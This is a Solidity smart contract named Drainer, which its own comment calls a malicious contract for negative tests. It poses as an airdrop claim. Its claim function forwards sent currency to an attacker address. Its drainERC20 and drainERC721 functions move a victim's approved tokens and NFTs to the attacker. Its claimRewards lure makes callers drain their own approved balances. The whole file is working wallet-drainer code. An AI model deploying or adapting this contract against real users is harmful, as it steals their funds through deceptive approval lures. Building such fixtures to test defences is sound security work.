// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

/// A malicious contract for negative tests: it poses as an airdrop claim and moves whatever a victim
/// has approved to it, plus any native currency sent along, to the attacker.
contract Drainer {
    address public immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    /// The lure: "claim" forwards the native currency sent with it to the attacker.
    function claim() external payable {
        (bool ok,) = attacker.call{value: msg.value}("");
        require(ok, "forward failed");
    }

    /// Moves the victim's whole balance of `token`, up to the allowance it gave this contract.
    function drainERC20(IERC20 token, address victim) external {
        uint256 balance = token.balanceOf(victim);
        uint256 allowance = token.allowance(victim, address(this));
        uint256 amount = balance < allowance ? balance : allowance;
        require(token.transferFrom(victim, attacker, amount), "transfer failed");
    }

    /// Moves the listed tokens of a collection the victim approved this contract for.
    function drainERC721(IERC721 collection, address victim, uint256[] calldata tokenIds) external {
        for (uint256 i = 0; i < tokenIds.length; i++) {
            collection.transferFrom(victim, attacker, tokenIds[i]);
        }
    }

    /// A "claim" that also sweeps the caller's approved tokens, so the caller drains itself in one call.
    function claimRewards(IERC20 token) external payable {
        uint256 balance = token.balanceOf(msg.sender);
        uint256 allowance = token.allowance(msg.sender, address(this));
        uint256 amount = balance < allowance ? balance : allowance;
        if (amount > 0) require(token.transferFrom(msg.sender, attacker, amount), "transfer failed");
        if (msg.value > 0) {
            (bool ok,) = attacker.call{value: msg.value}("");
            require(ok, "forward failed");
        }
    }
}
